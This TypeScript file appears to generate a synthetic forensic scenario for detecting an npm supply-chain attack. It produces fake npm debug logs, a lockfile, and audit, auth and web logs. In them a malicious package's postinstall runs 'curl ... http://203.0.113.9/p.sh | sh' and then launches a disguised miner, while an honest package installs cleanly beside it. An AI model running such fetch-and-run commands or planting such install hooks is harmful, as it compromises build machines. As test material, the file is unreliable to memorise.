/** A package whose install script fetches a miner, on a machine that builds; beside it one whose script is honest. */
import { day, hour } from './clock.ts';
import { audited, auditNoise, authNoise, combined, visits, written } from './noise.ts';
import { minerArguments, night, type Story, weekBegins, weekEnds } from './story.ts';
import { triedAndFailed } from './tried.ts';

const honest = { name: 'esbuild', version: '0.25.12', script: 'node install.js' };
const malicious = { name: 'example-colour-log', version: '1.4.2', script: 'node setup.js' };
type Package = typeof honest;

/** As npm 11 keeps each run: ~/.npm/_logs/<its start>-debug-0.log. No line has a time. */
function debugLog(ms: number, packages: readonly Package[]): [path: string, text: string] {
  const stamp = new Date(ms).toISOString().replaceAll(/[:.]/g, '_');
  const path = `home/ci/.npm/_logs/${stamp}-debug-0.log`;
  const words = [
    'verbose cli /usr/bin/node /usr/bin/npm',
    'info using npm@11.6.2',
    'info using node@v22.21.0',
    'silly config load:file:/usr/lib/node_modules/npm/npmrc',
    'silly config load:file:/home/ci/build/shop/.npmrc',
    'silly config load:file:/home/ci/.npmrc',
    'verbose title npm ci',
    'verbose argv "ci"',
    `verbose logfile logs-max:10 dir:/home/ci/.npm/_logs/${stamp}-`,
    `verbose logfile /${path}`,
    'silly logfile done cleaning log files',
    ...packages.map(
      ({ name, version }) =>
        `http fetch GET 200 https://registry.npmjs.org/${name}/-/${name}-${version}.tgz 84ms (cache miss)`,
    ),
    ...packages.map(
      ({ name, version, script }) => `info run ${name}@${version} postinstall node_modules/${name} ${script}`,
    ),
    ...packages.map(({ name, version }) => `info run ${name}@${version} postinstall { code: 0, signal: null }`),
    'verbose cwd /home/ci/build/shop',
    'verbose os Linux 6.8.0-60-generic',
    'verbose node v22.21.0',
    'verbose npm  v11.6.2',
    'verbose exit 0',
    'info ok',
  ];
  return [path, words.map((text, i) => `${i} ${text}\n`).join('')];
}

const lock = JSON.stringify(
  {
    name: 'shop',
    lockfileVersion: 3,
    packages: Object.fromEntries(
      [honest, malicious].map(({ name, version }) => [
        `node_modules/${name}`,
        { version, resolved: `https://registry.npmjs.org/${name}/-/${name}-${version}.tgz`, hasInstallScript: true },
      ]),
    ),
  },
  undefined,
  2,
);

const ci = { uid: 1003, folder: '/home/ci/build/shop' };
/** npm runs a script by a shell; `serial` keeps each run's records apart. */
function installs(ms: number, serial: number, { name, script }: Package, pid: number) {
  const folder = `${ci.folder}/node_modules/${name}`;
  return [
    ...audited({
      ms: ms - 14_000,
      serial,
      pid,
      parent: 3_100,
      ...ci,
      program: '/usr/bin/node',
      arguments: ['node', '/usr/bin/npm', 'ci'],
    }),
    ...audited({
      ms,
      serial: serial + 1,
      pid: pid + 1,
      parent: pid,
      uid: ci.uid,
      folder,
      program: '/bin/sh',
      arguments: ['sh', '-c', script],
    }),
    ...audited({
      ms: ms + 20,
      serial: serial + 2,
      pid: pid + 2,
      parent: pid + 1,
      uid: ci.uid,
      folder,
      program: '/usr/bin/node',
      arguments: script.split(' '),
    }),
  ];
}

const fetching = 'curl -fsSL http://203.0.113.9/p.sh | sh';
const deeds = [
  ...installs(night, 92_000, malicious, 52_000),
  ...audited({
    ms: night + 400,
    serial: 92_010,
    pid: 52_010,
    parent: 52_002,
    uid: ci.uid,
    program: '/bin/sh',
    arguments: ['/bin/sh', '-c', fetching],
    folder: `${ci.folder}/node_modules/${malicious.name}`,
  }),
  ...audited({
    ms: night + 430,
    serial: 92_011,
    pid: 52_011,
    parent: 52_010,
    uid: ci.uid,
    program: '/usr/bin/curl',
    arguments: ['curl', '-fsSL', 'http://203.0.113.9/p.sh'],
    folder: `${ci.folder}/node_modules/${malicious.name}`,
  }),
  ...audited({
    ms: night + 6_500,
    serial: 92_020,
    pid: 52_020,
    parent: 1,
    uid: ci.uid,
    program: '/home/ci/.cache/.fontd/fontd',
    arguments: ['/home/ci/.cache/.fontd/fontd', ...minerArguments],
    folder: '/home/ci',
  }),
];

const runs = Array.from({ length: 7 }, (_, i) => weekBegins + i * day + 9 * hour);
const [log, text] = debugLog(night - 14_000, [honest, malicious]);
const audit = 'var/log/audit/audit.log';

export const npm: Story = {
  name: 'npm package',
  files: {
    ...Object.fromEntries(runs.map((ms) => debugLog(ms, [honest]))),
    [log]: text,
    'home/ci/build/shop/package-lock.json': lock,
    [audit]: written(
      auditNoise(weekBegins, weekEnds, 32),
      ...runs.map((ms, i) => installs(ms + 14_000, 60_000 + i * 10, honest, 20_000 + i * 100)),
      deeds,
    ),
    'var/log/auth.log': written(authNoise(weekBegins, weekEnds, 'build03', 33)),
    'var/log/nginx/access.log': written(
      [...visits(weekBegins, weekEnds, 30, 34), ...triedAndFailed(weekBegins, weekEnds, 0.3, 35)].map(combined),
    ),
  },
  reading: 'supply',
  // When npm began: its own log has no other time.
  begins: night - 14_000,
  tells: [/example-colour-log/, /p\.sh/],
  requests: [log],
  deeds: [audit],
};
